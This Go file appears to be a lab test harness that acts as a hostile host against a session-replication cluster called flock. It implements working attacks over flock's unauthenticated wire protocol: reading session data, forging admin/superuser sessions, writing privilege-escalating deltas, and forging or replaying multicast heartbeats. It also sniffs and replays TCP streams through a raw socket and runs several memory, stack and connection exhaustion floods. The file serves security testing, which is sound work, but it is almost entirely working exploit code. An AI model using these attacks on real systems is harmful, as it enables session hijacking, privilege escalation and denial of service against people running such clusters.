//go:build linux

// Command attacker is the lab's hostile host: it speaks flock's wire format
// (frames, heartbeats, the session manager's messages) from the published
// layouts alone, with none of flock's code, and tries one attack per run.
// It prints one JSON line: what it sent and what came back. Whether the
// attack worked is judged from the cluster's side (sessions, members,
// counters); the attacker reports what it could read.
//
//	attacker read-state    --target IP:PORT --domain D
//	attacker read-fetch    --target IP:PORT --domain D --ids ID,ID
//	attacker write-delta   --target IP:PORT --domain D --id ID --base N --origin NODE
//	attacker forge-session --target IP:PORT --domain D --id ID
//	attacker expire        --target IP:PORT --domain D --id ID
//	attacker pin           --target IP:PORT --domain D --id ID
//	attacker leave         --target IP:PORT --domain D [--name NODE]
//	attacker fake-member   --group IP:PORT --iface IP --domain D --name NODE --for DURATION
//	attacker heartbeat     --group IP:PORT --iface IP --domain D --name NODE --addr IP:PORT [--leave]
//	attacker replay-heartbeats --group IP:PORT --iface IP --for DURATION
//	attacker replay-frames --iface-name eth0 --port PORT --for DURATION
//
// The resource attacks (issue 12) try to take a node's memory, stack, file
// descriptors or time rather than its sessions:
//
//	attacker deep-nesting    --target IP:PORT --domain D --depth N [--n M]
//	attacker huge-counts     --target IP:PORT --domain D --n M
//	attacker big-frames      --target IP:PORT --domain D --conns C --size BYTES [--hello]
//	attacker idle-conns      --target IP:PORT --n C --from IP,IP,... --for DURATION
//	attacker claim-addrs     --target IP:PORT --domain D --n M [--conns C] [--from IP,IP,...] [--addr-ip IP]
//	attacker heartbeat-flood --group IP:PORT --iface IP --domain D --names N --addr-ip IP --for DURATION
//
// Their Detail is a list of key=value counts (opened=5000 closed=4990 ...),
// for the test to read.
//
// It deliberately imports nothing from flock: a reimplementation from the
// documented layouts is what a real attacker would have.
package main

import (
	"bufio"
	"bytes"
	"crypto/rand"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/vmihailenco/msgpack/v5"
	"golang.org/x/net/ipv4"
)

// The session manager's message types (frame types 16...).
const (
	typeDelta    = 16
	typeExpire   = 17
	typeFetch    = 19
	typeSessions = 20
	typeState    = 21

	frameHello = 1
	frameAck   = 2
	framePing  = 3
	framePong  = 4
	frameLeave = 5

	modeSync = 2
)

type result struct {
	Attack string `json:"attack"`
	// Answered: the node answered the message (an ack, a pong) in the
	// clear; Applied: the ack said the handler applied it.
	Answered bool `json:"answered"`
	Applied  bool `json:"applied"`
	// Leaked counts the session ids the attacker read in answers.
	Leaked int    `json:"leaked"`
	Sent   int    `json:"sent"`
	Detail string `json:"detail,omitempty"`
}

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attacker ATTACK [flags]")
		os.Exit(2)
	}
	fl := flag.NewFlagSet(os.Args[1], flag.ExitOnError)
	target := fl.String("target", "", "receiver IP:port")
	domain := fl.String("domain", "default", "cluster domain")
	ids := fl.String("ids", "", "session ids, comma-separated")
	id := fl.String("id", "", "session id")
	base := fl.Uint64("base", 0, "version the change claims to build on")
	origin := fl.String("origin", "", "node that made the base version")
	name := fl.String("name", "attacker", "member name to claim")
	group := fl.String("group", "228.0.0.4:45564", "multicast group")
	iface := fl.String("iface", "", "IPv4 address of the attacker's interface")
	ifname := fl.String("iface-name", "eth0", "interface to capture on")
	port := fl.Int("port", 4000, "receiver port to capture")
	addr := fl.String("addr", "", "receiver address to announce")
	leave := fl.Bool("leave", false, "announce leaving")
	dur := fl.Duration("for", 3*time.Second, "how long")
	depth := fl.Int("depth", 1_000_000, "nesting depth of deep-nesting")
	count := fl.Int("n", 1, "messages (or connections) to send")
	conns := fl.Int("conns", 64, "connections of big-frames")
	size := fl.Int("size", 16<<20, "body bytes each big frame declares and sends")
	sayHello := fl.Bool("hello", false, "big-frames: say hello first (what a cluster without a key lets anyone do)")
	from := fl.String("from", "", "source addresses to spread connections over, comma-separated (default: the interface's)")
	nnames := fl.Int("names", 1000, "member names of heartbeat-flood")
	addrIP := fl.String("addr-ip", "", "address the claimed receivers are on")
	fl.Parse(os.Args[2:])

	r := result{Attack: os.Args[1]}
	var err error
	switch r.Attack {
	case "read-state":
		err = request(&r, *target, *domain, *name, typeState, map[string]any{})
	case "read-fetch":
		err = request(&r, *target, *domain, *name, typeFetch, map[string]any{"i": strings.Split(*ids, ",")})
	case "write-delta":
		// The privilege escalation: a change on the victim's version.
		err = request(&r, *target, *domain, *name, typeDelta, map[string]any{
			"i": *id, "b": *base, "bo": *origin, "v": *base + 1, "o": *origin, "a": time.Now().UnixNano(),
			"s": map[string][]byte{"user": mp("admin"), "role": mp("superuser")}, "y": true,
		})
	case "forge-session":
		err = request(&r, *target, *domain, *name, typeSessions, map[string]any{
			"s": []map[string]any{{"i": *id, "v": uint64(1), "o": *name, "c": time.Now().UnixNano(), "a": time.Now().UnixNano(),
				"ab": *name, "m": int64(30 * time.Minute), "at": map[string][]byte{"user": mp("admin"), "count": mp(1000000)}}},
			"l": true, "u": true,
		})
	case "expire":
		err = request(&r, *target, *domain, *name, typeExpire, map[string]any{"i": *id, "v": uint64(1) << 62, "r": "invalidated"})
	case "pin":
		err = request(&r, *target, *domain, *name, typeDelta, map[string]any{
			"i": *id, "v": uint64(1) << 62, "o": "zzzz", "a": time.Now().UnixNano(), "f": true,
			"s": map[string][]byte{"count": mp(-1)},
		})
	case "leave":
		err = control(&r, *target, *domain, *name, frameLeave)
	case "fake-member":
		err = fakeMember(&r, *group, *iface, *domain, *name, *dur)
	case "heartbeat":
		err = heartbeat(&r, *group, *iface, *domain, *name, *addr, *leave)
	case "replay-heartbeats":
		err = replayHeartbeats(&r, *group, *iface, *dur)
	case "replay-frames":
		err = replayFrames(&r, *ifname, *port, *dur)
	case "deep-nesting":
		// A change with a field nested a million arrays deep: a decoder
		// that recurses runs off its stack (fatal, not a panic).
		body := deepPayload(*depth)
		err = flood(&r, *target, *domain, *name, "", *count, func(int) (byte, []byte) { return typeDelta, body })
	case "huge-counts":
		// Eight bytes that announce a map of four billion entries: a
		// decoder that sizes its map by the count allocates for them.
		err = flood(&r, *target, *domain, *name, "", *count, func(int) (byte, []byte) { return typeDelta, hugeCountPayload() })
	case "big-frames":
		err = bigFrames(&r, *target, *domain, *conns, *size, *sayHello, *dur)
	case "idle-conns":
		err = idleConns(&r, *target, *count, splitList(*from), *dur)
	case "claim-addrs":
		err = claimAddrs(&r, *target, *domain, *count, *conns, splitList(*from), *addrIP)
	case "heartbeat-flood":
		err = heartbeatFlood(&r, *group, *iface, *domain, *nnames, *addrIP, *dur)
	default:
		err = fmt.Errorf("unknown attack %q", r.Attack)
	}
	if err != nil {
		r.Detail = err.Error()
	}
	json.NewEncoder(os.Stdout).Encode(r)
}

func mp(v any) []byte {
	b, _ := msgpack.Marshal(v)
	return b
}

// --- frames ---

func frame(t byte, body []byte) []byte {
	b := []byte{'F', 'L', 'K', 'T', 1, t, 0, 0, 0, 0, 0, 0}
	binary.BigEndian.PutUint32(b[8:], uint32(len(body)))
	return append(b, body...)
}

func randomID() []byte {
	id := make([]byte, 16)
	rand.Read(id)
	return id
}

func hello(id []byte, name, domain, addr string) []byte {
	body := mp([]any{[]any{id, name, domain, addr, time.Now().UnixNano()}})
	return frame(frameHello, body)
}

func envelope(t byte, from []byte, seq uint64, payload []byte) []byte {
	return frame(t, mp([]any{from, seq, uint64(modeSync), payload}))
}

// readFrame reads one frame: its type and body.
func readFrame(c net.Conn) (byte, []byte, error) {
	var h [12]byte
	if _, err := io.ReadFull(c, h[:]); err != nil {
		return 0, nil, err
	}
	if string(h[:4]) != "FLKT" {
		return 0, nil, fmt.Errorf("not a frame: % x", h)
	}
	n := binary.BigEndian.Uint32(h[8:])
	if n > 64<<20 {
		return 0, nil, fmt.Errorf("frame of %d bytes", n)
	}
	body := make([]byte, n)
	_, err := io.ReadFull(c, body)
	return h[5], body, err
}

func dial(target string) (net.Conn, error) {
	c, err := net.DialTimeout("tcp", target, 3*time.Second)
	if err != nil {
		return nil, err
	}
	c.SetDeadline(time.Now().Add(5 * time.Second))
	return c, nil
}

// request sends hello plus one sync message in the clear, as a member
// without a key would, and reads what comes back.
func request(r *result, target, domain, name string, t byte, payload any) error {
	c, err := dial(target)
	if err != nil {
		return err
	}
	defer c.Close()
	me := randomID()
	local := c.LocalAddr().(*net.TCPAddr).IP.String() + ":4000"
	msg := append(hello(me, name, domain, local), envelope(t, me, 1, mp(payload))...)
	if _, err := c.Write(msg); err != nil {
		return err
	}
	r.Sent = 1
	for {
		ft, body, err := readFrame(c)
		if err != nil {
			return fmt.Errorf("no answer: %w", err)
		}
		if ft != frameAck {
			continue
		}
		r.Answered = true
		var ack []any
		if err := msgpack.Unmarshal(body, &ack); err != nil || len(ack) < 3 {
			return fmt.Errorf("ack: %v", err)
		}
		status, _ := ack[1].(int8)
		if s, ok := toUint(ack[1]); ok {
			r.Applied = s == 2
			status = int8(s)
		}
		if status == 3 {
			r.Detail = fmt.Sprint(ack[2])
		}
		if len(ack) > 3 {
			if reply, ok := ack[3].([]byte); ok {
				r.Leaked = countIDs(reply)
			}
		}
		return nil
	}
}

func toUint(v any) (uint64, bool) {
	switch x := v.(type) {
	case int8:
		return uint64(x), true
	case uint8:
		return uint64(x), true
	case int64:
		return uint64(x), true
	case uint64:
		return x, true
	}
	return 0, false
}

// countIDs counts the session ids in an answer: whole sessions ("s") and
// tombstones ("e").
func countIDs(reply []byte) int {
	var m map[string]any
	if msgpack.Unmarshal(reply, &m) != nil {
		return 0
	}
	n := 0
	for _, k := range []string{"s", "e"} {
		if l, ok := m[k].([]any); ok {
			n += len(l)
		}
	}
	return n
}

// control sends hello plus a control frame (ping, leave) and waits for the
// pong.
func control(r *result, target, domain, name string, t byte) error {
	c, err := dial(target)
	if err != nil {
		return err
	}
	defer c.Close()
	local := c.LocalAddr().(*net.TCPAddr).IP.String() + ":4000"
	msg := append(hello(randomID(), name, domain, local), frame(t, mp([]any{uint64(42)}))...)
	if _, err := c.Write(msg); err != nil {
		return err
	}
	r.Sent = 1
	for {
		ft, _, err := readFrame(c)
		if err != nil {
			return fmt.Errorf("no answer: %w", err)
		}
		if ft == framePong {
			r.Answered, r.Applied = true, true
			return nil
		}
	}
}

// --- heartbeats ---

func heartbeatPacket(cmd byte, id []byte, started time.Time, seq uint64, addr netip.AddrPort, name, domain string) []byte {
	b := []byte{'F', 'L', 'K', 'B', 1, cmd, 0, 0}
	b = append(b, id...)
	b = binary.BigEndian.AppendUint64(b, uint64(started.UnixNano()))
	b = binary.BigEndian.AppendUint64(b, seq)
	b = binary.BigEndian.AppendUint16(b, addr.Port())
	ip := addr.Addr().As4()
	b = append(b, 4)
	b = append(b, ip[:]...)
	b = append(b, byte(len(name)))
	b = append(b, name...)
	b = append(b, byte(len(domain)))
	return append(b, domain...)
}

func joinGroup(group, iface string) (*ipv4.PacketConn, *net.UDPAddr, error) {
	g, err := net.ResolveUDPAddr("udp4", group)
	if err != nil {
		return nil, nil, err
	}
	ifi, err := ifaceByAddr(iface)
	if err != nil {
		return nil, nil, err
	}
	c, err := net.ListenPacket("udp4", fmt.Sprintf("0.0.0.0:%d", g.Port))
	if err != nil {
		return nil, nil, err
	}
	p := ipv4.NewPacketConn(c)
	if err := p.JoinGroup(ifi, &net.UDPAddr{IP: g.IP}); err != nil {
		c.Close()
		return nil, nil, err
	}
	p.SetMulticastInterface(ifi)
	p.SetMulticastTTL(1)
	p.SetMulticastLoopback(false)
	return p, g, nil
}

func ifaceByAddr(a string) (*net.Interface, error) {
	ifs, err := net.Interfaces()
	if err != nil {
		return nil, err
	}
	for _, ifi := range ifs {
		addrs, _ := ifi.Addrs()
		for _, ad := range addrs {
			if ipn, ok := ad.(*net.IPNet); ok && ipn.IP.String() == a {
				return &ifi, nil
			}
		}
	}
	return nil, fmt.Errorf("no interface with address %s", a)
}

// heartbeat sends forged heartbeats in the clear: a member's name with a
// later start time (impersonation), or a leave.
func heartbeat(r *result, group, iface, domain, name, addr string, leave bool) error {
	p, g, err := joinGroup(group, iface)
	if err != nil {
		return err
	}
	defer p.Close()
	ap, err := netip.ParseAddrPort(addr)
	if err != nil {
		return err
	}
	id := randomID()
	cmd := byte(1)
	if leave {
		cmd = 2
	}
	started := time.Now().Add(time.Hour) // "a later run"
	for i := range 10 {
		if _, err := p.WriteTo(heartbeatPacket(cmd, id, started, uint64(i+1), ap, name, domain), nil, g); err != nil {
			return err
		}
		r.Sent++
		time.Sleep(100 * time.Millisecond)
	}
	return nil
}

// fakeMember announces a member with a receiver that answers pings but
// never acknowledges a message: if the cluster took it in, every sync
// write would wait the send timeout for it.
func fakeMember(r *result, group, iface, domain, name string, d time.Duration) error {
	ln, err := net.Listen("tcp", iface+":0")
	if err != nil {
		return err
	}
	defer ln.Close()
	conns := make(chan struct{}, 1024)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			conns <- struct{}{}
			go func() {
				defer c.Close()
				c.SetDeadline(time.Now().Add(d + 5*time.Second))
				for {
					t, body, err := readFrame(c)
					if err != nil {
						return
					}
					if t == framePing {
						var ping []any
						msgpack.Unmarshal(body, &ping)
						if len(ping) == 1 {
							c.Write(frame(framePong, mp([]any{ping[0], []any{randomID(), name, domain, ln.Addr().String(), time.Now().UnixNano()}})))
						}
					}
					// Messages are read and never acknowledged.
				}
			}()
		}
	}()
	p, g, err := joinGroup(group, iface)
	if err != nil {
		return err
	}
	defer p.Close()
	id := randomID()
	started := time.Now()
	ap := ln.Addr().(*net.TCPAddr).AddrPort()
	for i := 0; time.Duration(i)*250*time.Millisecond < d; i++ {
		p.WriteTo(heartbeatPacket(1, id, started, uint64(i+1), ap, name, domain), nil, g)
		r.Sent++
		time.Sleep(250 * time.Millisecond)
	}
	r.Answered = len(conns) > 0 // a node connected to the fake member
	r.Detail = fmt.Sprintf("%d connections from nodes", len(conns))
	return nil
}

// replayHeartbeats records what the group carries for d, then sends every
// packet again: a member's recorded leave, or its alive heartbeats after it
// has gone.
func replayHeartbeats(r *result, group, iface string, d time.Duration) error {
	p, g, err := joinGroup(group, iface)
	if err != nil {
		return err
	}
	defer p.Close()
	var recorded [][]byte
	buf := make([]byte, 2048)
	for end := time.Now().Add(d); time.Now().Before(end); {
		p.SetReadDeadline(end)
		n, _, _, err := p.ReadFrom(buf)
		if err != nil {
			break
		}
		recorded = append(recorded, bytes.Clone(buf[:n]))
	}
	for _, pkt := range recorded {
		if _, err := p.WriteTo(pkt, nil, g); err != nil {
			return err
		}
		r.Sent++
	}
	r.Detail = fmt.Sprintf("recorded and replayed %d packets", len(recorded))
	return nil
}

// --- frames captured from the wire ---

type flow struct {
	src, dst netip.AddrPort
}

type segment struct {
	seq  uint32
	data []byte
}

// replayFrames captures the TCP streams towards receivers (port) that
// cross the attacker's interface for d (the lab's bridge floods every
// frame), then opens a connection of its own to each receiver and sends it
// the bytes a member sent, as they were.
func replayFrames(r *result, ifname string, port int, d time.Duration) error {
	ifi, err := net.InterfaceByName(ifname)
	if err != nil {
		return err
	}
	const ethPAll = 0x0003
	fd, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, int(htons(ethPAll)))
	if err != nil {
		return fmt.Errorf("raw socket: %w", err)
	}
	defer syscall.Close(fd)
	if err := syscall.Bind(fd, &syscall.SockaddrLinklayer{Protocol: htons(ethPAll), Ifindex: ifi.Index}); err != nil {
		return err
	}
	tv := syscall.NsecToTimeval(int64(200 * time.Millisecond))
	syscall.SetsockoptTimeval(fd, syscall.SOL_SOCKET, syscall.SO_RCVTIMEO, &tv)
	streams := map[flow][]segment{}
	buf := make([]byte, 65536)
	for end := time.Now().Add(d); time.Now().Before(end); {
		n, _, err := syscall.Recvfrom(fd, buf, 0)
		if err != nil {
			continue
		}
		f, seg, ok := parseTCP(buf[:n], uint16(port))
		if ok && len(seg.data) > 0 {
			streams[f] = append(streams[f], seg)
		}
	}
	replayed := 0
	for f, segs := range streams {
		stream := assemble(segs)
		if len(stream) == 0 {
			continue
		}
		c, err := dial(f.dst.String())
		if err != nil {
			continue
		}
		c.Write(stream)
		replayed++
		r.Sent += len(stream)
		// Whatever comes back, read for a moment: a sealed stream gets at
		// most the handshake's answer.
		c.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
		for {
			t, _, err := readFrame(c)
			if err != nil {
				break
			}
			if t == frameAck {
				r.Answered, r.Applied = true, true
			}
		}
		c.Close()
	}
	r.Detail = fmt.Sprintf("captured %d streams, replayed %d", len(streams), replayed)
	if len(streams) == 0 {
		return errors.New("captured nothing: is the bridge flooding?")
	}
	return nil
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// parseTCP reads an Ethernet + IPv4 + TCP frame bound to port.
func parseTCP(b []byte, port uint16) (flow, segment, bool) {
	if len(b) < 14+20 || binary.BigEndian.Uint16(b[12:]) != 0x0800 {
		return flow{}, segment{}, false
	}
	ip := b[14:]
	ihl := int(ip[0]&0x0f) * 4
	if ip[9] != 6 || len(ip) < ihl+20 {
		return flow{}, segment{}, false
	}
	total := int(binary.BigEndian.Uint16(ip[2:]))
	if total > len(ip) || total < ihl+20 {
		return flow{}, segment{}, false
	}
	tcp := ip[ihl:total]
	off := int(tcp[12]>>4) * 4
	if off > len(tcp) {
		return flow{}, segment{}, false
	}
	sp, dp := binary.BigEndian.Uint16(tcp[0:]), binary.BigEndian.Uint16(tcp[2:])
	if dp != port {
		return flow{}, segment{}, false
	}
	src := netip.AddrPortFrom(netip.AddrFrom4([4]byte(ip[12:16])), sp)
	dst := netip.AddrPortFrom(netip.AddrFrom4([4]byte(ip[16:20])), dp)
	return flow{src, dst}, segment{seq: binary.BigEndian.Uint32(tcp[4:]), data: bytes.Clone(tcp[off:])}, true
}

// assemble orders a flow's segments by sequence number, dropping
// retransmissions, from the first captured.
func assemble(segs []segment) []byte {
	sort.SliceStable(segs, func(i, j int) bool { return int32(segs[i].seq-segs[j].seq) < 0 })
	var out []byte
	next := segs[0].seq
	for _, s := range segs {
		if int32(s.seq-next) < 0 {
			skip := int(next - s.seq)
			if skip >= len(s.data) {
				continue
			}
			s.data = s.data[skip:]
			s.seq = next
		}
		if s.seq != next {
			break // a hole: what follows cannot be replayed in order
		}
		out = append(out, s.data...)
		next += uint32(len(s.data))
	}
	return out
}

// --- resource attacks ---

// kv formats counts as "key=value key=value", in the order given, for the
// Detail the test reads.
func kv(pairs ...any) string {
	var b strings.Builder
	for i := 0; i+1 < len(pairs); i += 2 {
		if i > 0 {
			b.WriteByte(' ')
		}
		fmt.Fprintf(&b, "%v=%v", pairs[i], pairs[i+1])
	}
	return b.String()
}

func splitList(s string) []string {
	if s == "" {
		return nil
	}
	return strings.Split(s, ",")
}

// sessionID is a well-formed session id (24 characters, a dot, a route)
// that no node made.
func sessionID(route string) string {
	b := make([]byte, 18)
	rand.Read(b)
	return base64.RawURLEncoding.EncodeToString(b) + "." + route
}

// msgpack by hand: the library would recurse on the nesting, and cannot
// write a count the bytes do not hold.
func appendStr(b []byte, s string) []byte {
	if len(s) < 32 {
		b = append(b, 0xa0|byte(len(s)))
	} else {
		b = append(b, 0xd9, byte(len(s)))
	}
	return append(b, s...)
}

// deepPayload is a delta {"i": ID, "zz": [[[...nil...]]]} nested depth
// arrays deep: one byte per level.
func deepPayload(depth int) []byte {
	b := make([]byte, 0, depth+64)
	b = append(b, 0x82)
	b = appendStr(appendStr(b, "i"), sessionID("node1"))
	b = appendStr(b, "zz")
	b = append(b, bytes.Repeat([]byte{0x91}, depth)...)
	return append(b, 0xc0)
}

// hugeCountPayload is a delta {"i": ID, "zz": map32(0xffffffff)} with
// none of the entries the count announces.
func hugeCountPayload() []byte {
	b := []byte{0x82}
	b = appendStr(appendStr(b, "i"), sessionID("node1"))
	b = appendStr(b, "zz")
	return append(b, 0xdf, 0xff, 0xff, 0xff, 0xff)
}

// streamed is what came back for the messages of one connection.
type streamed struct {
	sent, applied, failed int
	firstErr              string // the first failed message's error
	cut                   error  // why the acks stopped before all came
}

// stream says hello on one connection (from source address src, "" for
// any), as name at addr ("": the connection's own address, port 4000), and
// sends n sync messages that
// next makes, writing them all while it reads the acks: a sender that
// pipelines, as members do.
func stream(src, target, domain, name, addr string, n int, next func(i int) (byte, []byte)) (streamed, error) {
	var s streamed
	dl := net.Dialer{Timeout: 3 * time.Second}
	if src != "" {
		dl.LocalAddr = &net.TCPAddr{IP: net.ParseIP(src)}
	}
	c, err := dl.Dial("tcp", target)
	if err != nil {
		return s, err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(60 * time.Second))
	if addr == "" {
		addr = c.LocalAddr().(*net.TCPAddr).IP.String() + ":4000"
	}
	me := randomID()
	wrote := make(chan int, 1)
	go func() {
		w := bufio.NewWriterSize(c, 64<<10)
		_, err := w.Write(hello(me, name, domain, addr))
		i := 0
		for ; i < n && err == nil; i++ {
			t, payload := next(i)
			_, err = w.Write(envelope(t, me, uint64(i+1), payload))
		}
		if err == nil {
			err = w.Flush()
		}
		if err != nil && i > 0 {
			i-- // the last one did not go out whole
		}
		wrote <- i
	}()
	for s.applied+s.failed < n {
		ft, body, err := readFrame(c)
		if err != nil {
			s.cut = err // the node closed the connection, or the deadline passed
			break
		}
		if ft != frameAck {
			continue
		}
		var ack []any
		if msgpack.Unmarshal(body, &ack) != nil || len(ack) < 3 {
			continue
		}
		switch st, _ := toUint(ack[1]); st {
		case 2:
			s.applied++
		case 3:
			s.failed++
			if s.firstErr == "" {
				s.firstErr = fmt.Sprint(ack[2])
			}
		}
	}
	c.Close()
	s.sent = <-wrote
	return s, nil
}

// flood sends n messages on one connection (see stream).
func flood(r *result, target, domain, name, addr string, n int, next func(i int) (byte, []byte)) error {
	s, err := stream("", target, domain, name, addr, n, next)
	r.Sent = s.sent
	r.Answered = s.applied+s.failed > 0
	r.Applied = s.applied > 0
	r.Detail = kv("sent", s.sent, "applied", s.applied, "failed", s.failed, "unanswered", s.sent-s.applied-s.failed) + " first_error=" + fmt.Sprintf("%q", s.firstErr)
	return err
}

// bigFrames opens conns connections at once, each declaring a frame of
// size bytes and sending it whole: before any hello, or after one
// (withHello) and then holding back the last byte for hold, so that every
// node buffer fills at once and stays full.
func bigFrames(r *result, target, domain string, conns, size int, withHello bool, hold time.Duration) error {
	chunk := make([]byte, 1<<20)
	var (
		wg                      sync.WaitGroup
		failed, cut, whole, eof atomic.Int64
		sent                    atomic.Int64
	)
	start := time.Now()
	for i := range conns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, err := net.DialTimeout("tcp", target, 3*time.Second)
			if err != nil {
				failed.Add(1)
				return
			}
			defer c.Close()
			c.SetDeadline(time.Now().Add(30*time.Second + hold))
			var head []byte
			if withHello {
				head = hello(randomID(), fmt.Sprintf("big%03d", i), domain, c.LocalAddr().(*net.TCPAddr).IP.String()+":4000")
			}
			h := []byte{'F', 'L', 'K', 'T', 1, typeDelta, 0, 0, 0, 0, 0, 0}
			binary.BigEndian.PutUint32(h[8:], uint32(size))
			_, err = c.Write(append(head, h...))
			left := size
			if withHello {
				left-- // the last byte waits
			}
			for left > 0 && err == nil {
				var k int
				k, err = c.Write(chunk[:min(len(chunk), left)])
				left -= k
				sent.Add(int64(k))
			}
			if err == nil && withHello {
				time.Sleep(hold)
				_, err = c.Write([]byte{0})
			}
			if err != nil {
				cut.Add(1) // the node closed the connection under the frame
				return
			}
			whole.Add(1)
			c.SetReadDeadline(time.Now().Add(5 * time.Second))
			if _, err := io.Copy(io.Discard, c); err == nil {
				eof.Add(1) // and closed it after
			}
		}()
	}
	wg.Wait()
	r.Sent = int(sent.Load())
	r.Detail = kv("conns", conns, "failed", failed.Load(), "cut", cut.Load(), "whole", whole.Load(), "closed_after", eof.Load(),
		"bytes", sent.Load(), "ms", time.Since(start).Milliseconds())
	return nil
}

// idleConns opens n connections (256 dials at a time, spread over the
// source addresses from) that never send a byte, and holds each until the
// node closes it or d has passed since the start.
func idleConns(r *result, target string, n int, from []string, d time.Duration) error {
	start := time.Now()
	end := start.Add(d)
	var (
		opened, failed, closed, open, peak atomic.Int64
		maxHeld                            atomic.Int64 // the longest a node kept one it closed, in ms
		firstErr                           atomic.Value
	)
	raise := func(a *atomic.Int64, v int64) {
		for {
			old := a.Load()
			if v <= old || a.CompareAndSwap(old, v) {
				return
			}
		}
	}
	sem := make(chan struct{}, 256)
	var wg sync.WaitGroup
	for i := range n {
		sem <- struct{}{}
		wg.Add(1)
		go func() {
			defer wg.Done()
			dl := net.Dialer{Timeout: 3 * time.Second}
			if len(from) > 0 {
				dl.LocalAddr = &net.TCPAddr{IP: net.ParseIP(from[i%len(from)])}
			}
			c, err := dl.Dial("tcp", target)
			<-sem
			if err != nil {
				failed.Add(1)
				firstErr.CompareAndSwap(nil, err.Error())
				return
			}
			defer c.Close()
			at := time.Now()
			opened.Add(1)
			raise(&peak, open.Add(1))
			defer open.Add(-1)
			c.SetReadDeadline(end)
			var b [1]byte
			_, err = c.Read(b[:])
			var ne net.Error
			if errors.As(err, &ne) && ne.Timeout() {
				return // still open at the end
			}
			closed.Add(1)
			raise(&maxHeld, time.Since(at).Milliseconds())
		}()
	}
	wg.Wait()
	r.Sent = int(opened.Load())
	fe, _ := firstErr.Load().(string)
	r.Detail = kv("wanted", n, "opened", opened.Load(), "failed", failed.Load(), "closed", closed.Load(),
		"open_at_end", opened.Load()-closed.Load(), "peak_open", peak.Load(), "max_held_ms", maxHeld.Load(),
		"sources", max(1, len(from)), "ms", time.Since(start).Milliseconds())
	if fe != "" {
		r.Detail += fmt.Sprintf(" first_error=%q", fe)
	}
	return nil
}

// claimAddrs sends n changes, each on a connection of its own whose hello
// claims another member id and receiver address (on addrIP, or spread over
// 198.51.100.150-249): an asynchronous change to a session the node does
// not hold (a gap, which a node repairs by fetching the session from the
// sender), then a fetch. A node that answers the claimed addresses opens a
// connection, and keeps state, for each. conns connections at a time,
// from the source addresses from (round robin).
func claimAddrs(r *result, target, domain string, n, conns int, from []string, addrIP string) error {
	var (
		wg                             sync.WaitGroup
		sent, applied, failed, dialErr atomic.Int64
		firstErr, firstCut             atomic.Value
	)
	work := make(chan int)
	// A fetch from a caller that is not a member waits up to 2 s for it
	// to appear in the view: many at a time, from several addresses (a
	// node takes 64 connections from one).
	for w := range max(1, conns) {
		wg.Add(1)
		go func() {
			defer wg.Done()
			src := ""
			if len(from) > 0 {
				src = from[w%len(from)]
			}
			for i := range work {
				ip := addrIP
				if ip == "" {
					ip = fmt.Sprintf("198.51.100.%d", 150+i%100)
				}
				name := fmt.Sprintf("ghost%04d", i)
				addr := fmt.Sprintf("%s:%d", ip, 20000+i)
				s, err := stream(src, target, domain, name, addr, 2, func(k int) (byte, []byte) {
					if k == 0 {
						return typeDelta, mp(map[string]any{"i": sessionID("node1"), "b": uint64(1), "bo": name, "v": uint64(2), "o": name,
							"a": time.Now().UnixNano(), "s": map[string][]byte{"count": mp(1)}})
					}
					return typeFetch, mp(map[string]any{"i": []string{sessionID("node1")}})
				})
				if err != nil {
					dialErr.Add(1)
					continue
				}
				sent.Add(int64(s.sent))
				applied.Add(int64(s.applied))
				failed.Add(int64(s.failed))
				if s.firstErr != "" {
					firstErr.CompareAndSwap(nil, s.firstErr)
				}
				if s.cut != nil {
					firstCut.CompareAndSwap(nil, fmt.Sprintf("%s: %v", name, s.cut))
				}
			}
		}()
	}
	for i := range n {
		work <- i
	}
	close(work)
	wg.Wait()
	r.Sent = int(sent.Load())
	r.Answered = applied.Load()+failed.Load() > 0
	r.Applied = applied.Load() > 0
	fe, _ := firstErr.Load().(string)
	fc, _ := firstCut.Load().(string)
	r.Detail = kv("claims", n, "sent", sent.Load(), "applied", applied.Load(), "failed", failed.Load(), "dial_errors", dialErr.Load()) +
		fmt.Sprintf(" first_error=%q first_cut=%q", fe, fc)
	return nil
}

// heartbeatFlood announces names members, each its own id and receiver
// (addrIP, a port of its own), for d: every one heartbeats each 500 ms, as
// a member does, the packets spread over the interval.
func heartbeatFlood(r *result, group, iface, domain string, names int, addrIP string, d time.Duration) error {
	p, g, err := joinGroup(group, iface)
	if err != nil {
		return err
	}
	defer p.Close()
	if addrIP == "" {
		addrIP = iface
	}
	ip, err := netip.ParseAddr(addrIP)
	if err != nil {
		return err
	}
	type fake struct {
		id   []byte
		name string
		addr netip.AddrPort
	}
	fakes := make([]fake, names)
	for i := range fakes {
		id := randomID()
		fakes[i] = fake{id, fmt.Sprintf("flood%05d-%x", i, id[:3]), netip.AddrPortFrom(ip, uint16(20000+i%40000))}
	}
	const interval, batch = 500 * time.Millisecond, 50
	started, start := time.Now(), time.Now()
	rounds, errs := 0, 0
	for seq := uint64(1); time.Since(start) < d; seq++ {
		round := time.Now()
		for i, f := range fakes {
			if _, err := p.WriteTo(heartbeatPacket(1, f.id, started, seq, f.addr, f.name, domain), nil, g); err != nil {
				errs++
			} else {
				r.Sent++
			}
			if (i+1)%batch == 0 {
				// Paced: the round's packets fill the interval.
				time.Sleep(time.Until(round.Add(interval * time.Duration(i+1) / time.Duration(len(fakes)))))
			}
		}
		rounds++
		time.Sleep(time.Until(round.Add(interval)))
	}
	r.Detail = kv("names", names, "rounds", rounds, "packets", r.Sent, "send_errors", errs)
	return nil
}
